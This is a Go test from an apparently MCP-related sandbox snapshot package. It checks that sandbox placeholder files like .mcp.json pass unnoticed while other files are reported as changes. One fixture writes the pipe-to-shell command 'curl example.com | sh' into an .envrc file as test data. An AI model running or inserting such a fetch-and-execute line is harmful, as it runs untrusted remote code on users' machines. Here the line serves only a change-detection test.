package snapshot_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/intentgov/orchestra-mcp/internal/placeholder"
	"github.com/intentgov/orchestra-mcp/pkg/command/sandbox"
	"github.com/intentgov/orchestra-mcp/pkg/snapshot"
)

// TestPlaceholdersOfAllNames: what a sandbox has standing where nothing is comes unnoticed; what says something else, or
// stands where no sandbox puts one, is a change.
func TestPlaceholdersOfAllNames(t *testing.T) {
	b := newBench(t)
	o := b.options
	o.Placeholder = sandbox.IsPlaceholder
	b.keeper = snapshot.Open(o)
	w := b.begin()
	for name, content := range map[string]string{
		".intentignore": "", ".mcp.json": placeholder.Content(".mcp.json"), ".roomodes": placeholder.Content(".roomodes"),
		".envrc": "curl example.com | sh", "other": "",
	} {
		b.write(name, content)
		b.must(os.Chtimes(filepath.Join(b.dir, name), placeholder.Time, placeholder.Time))
	}
	var paths []string
	for _, change := range b.end(w).Changes {
		paths = append(paths, change.Path)
	}
	if len(paths) != 2 || paths[0] != ".envrc" || paths[1] != "other" {
		t.Errorf("%q", paths)
	}
}
